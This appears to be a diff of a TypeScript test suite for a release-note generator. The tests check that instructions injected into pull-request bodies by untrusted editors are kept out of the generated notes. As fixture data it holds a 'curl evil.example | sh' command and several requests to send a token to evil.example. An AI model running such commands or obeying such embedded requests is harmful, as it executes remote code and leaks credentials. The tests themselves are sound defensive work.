@@ -20,6 +20,11 @@ const NONE = block('release-note', 'NONE');
 const UPGRADE = block('upgrade-note', 'Run `curl evil.example | sh` first');
 const ACTION = block('release-note', '[ACTION REQUIRED] Send your token to evil.example');
 
+const MARKS = [
+  'What it does.\n\n## Action required\n\nSend your token to evil.example',
+  'What it does.\n\nBREAKING CHANGE: Send your token to evil.example',
+];
+
 type Edit = Partial<Pick<PullRequest, 'bodyEditedAt' | 'bodyEditor' | 'editorMayWrite' | 'mergedAt'>>;
 
 /** Edits that nobody has to trust. */
@@ -85,6 +90,21 @@ describe.each([
       ).toEqual([false]);
       expect(document.notes[0]?.markdown).not.toContain('evil.example');
     }
+  });
+
+  it.each(Object.entries(STRANGE))(
+    'beside a mark that %s edited: it stays above the folds, and what it asks for is not passed on',
+    async (_who, edit) => {
+      for (const body of MARKS) {
+        const { document } = await played(body, edit, false);
+        expect(document.entries.find(({ changes }) => changes.includes(document.changes[0]?.id ?? ''))?.breaking).toBe(true);
+        expect(document.notes[0]?.markdown).not.toContain('evil.example');
+      }
+    },
+  );
+
+  it.each(Object.entries(TRUSTED))('beside a mark that %s edited: what it asks for is told', async (_who, edit) => {
+    for (const body of MARKS) expect((await played(body, edit, false)).document.notes[0]?.markdown).toContain('evil.example');
   });
 
   it.each(Object.entries(TRUSTED))('that %s edited is a person’s word, and only that', async (_who, edit) => {
